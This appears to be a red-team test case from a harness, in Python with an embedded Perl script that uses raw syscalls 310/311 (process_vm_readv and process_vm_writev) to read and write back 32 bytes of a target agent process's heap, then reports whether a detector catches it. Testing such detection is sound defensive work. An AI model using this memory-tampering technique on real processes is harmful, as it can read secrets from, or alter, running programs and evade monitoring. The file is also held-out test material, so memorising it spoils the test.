"""Round 6: perl's syscall() builtin does process_vm_readv + process_vm_writev on the agent (no C, no Python).

A stock interpreter as the tampering tool: the iovecs are pack()ed strings,
the syscall numbers are literals.  Reads 32 bytes of the heap, writes them back.
"""

from __future__ import annotations

import subprocess
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 6
EXPECT = ("L5",)
PERL = r"""
my ($pid, $addr) = @ARGV;
my $buf = "\0" x 32;
my $local = pack("PQ", $buf, 32);
my $remote = pack("QQ", $addr, 32);
my $r = syscall(310, $pid + 0, $local, 1, $remote, 1, 0);
my $w = syscall(311, $pid + 0, $local, 1, $remote, 1, 0);
print "read $r wrote $w\n";
exit(($r == 32 && $w == 32) ? 0 : 1);
"""


def run(args: dict[str, Any]) -> None:
    pid, addr = int(args["pid"]), int(args["addr"])
    t = rt.now()
    r = subprocess.run(
        ["perl", "-e", PERL, str(pid), str(addr)], capture_output=True, timeout=20, check=False
    )
    out = (r.stdout + r.stderr).decode(errors="replace").strip()
    rt.report(t, r.returncode == 0, f"perl syscall(310/311) on {pid} at {addr:#x}: {out}")


if __name__ == "__main__":
    rt.main(run, globals())
